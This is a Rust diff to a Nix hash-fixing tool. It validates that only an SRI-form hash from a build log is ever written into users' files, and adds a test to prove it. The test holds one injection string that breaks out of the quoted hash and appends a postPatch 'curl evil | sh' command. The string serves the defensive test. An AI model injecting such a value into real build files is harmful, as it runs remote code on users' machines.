@@ -68,6 +68,12 @@ pub enum FixError {
     },
     #[error("{file}: two edits overlap at byte {at}")]
     Overlap { file: String, at: usize },
+    #[error("{file}:{line}: {new:?} is not a hash in SRI form; nothing else is written")]
+    NotAHash {
+        file: String,
+        line: usize,
+        new: String,
+    },
 }
 
 /// Maps a `meta.position` (`/nix/store/<hash>-source/pkgs/a/b.nix:12`) to a path relative to
@@ -307,6 +313,16 @@ pub fn apply<'a>(tree: &Tree, fixes: impl IntoIterator<Item = &'a Fix>) -> Resul
         let mut new = String::with_capacity(text.len() + 64 * list.len());
         let mut at = 0;
         for f in list {
+            // What goes between the quotes came from a build's log: only a hash, as Nix
+            // prints it in SRI form, is ever written into the user's files.
+            let sri = nixfarm_nix::hash::Hash::parse(&f.new, None).map(|h| h.to_sri());
+            if sri.as_deref() != Some(f.new.as_str()) {
+                return Err(FixError::NotAHash {
+                    file: file.to_string(),
+                    line: f.line,
+                    new: nixfarm_core::limits::clip(&f.new, 80).to_string(),
+                });
+            }
             if f.start < at {
                 return Err(FixError::Overlap {
                     file: file.to_string(),
@@ -469,6 +485,23 @@ mod tests {
             apply(&changed, p.fixes.values().flatten()),
             Err(FixError::Changed { .. })
         ));
+    }
+
+    #[test]
+    fn nothing_but_a_hash_is_written() {
+        let t = tree();
+        let p = plan(
+            &t,
+            &[PackageMismatches {
+                attr: "a".into(),
+                own_file: Some("pkgs/a.nix".into()),
+                mismatches: vec![mm("source", &[], GOT1)],
+            }],
+        );
+        let mut fixes: Vec<Fix> = p.fixes.values().flatten().cloned().collect();
+        assert!(apply(&t, &fixes).is_ok());
+        fixes[0].new = format!("{GOT1}\"; postPatch = \"curl evil | sh");
+        assert!(matches!(apply(&t, &fixes), Err(FixError::NotAHash { .. })));
     }
 
     #[test]
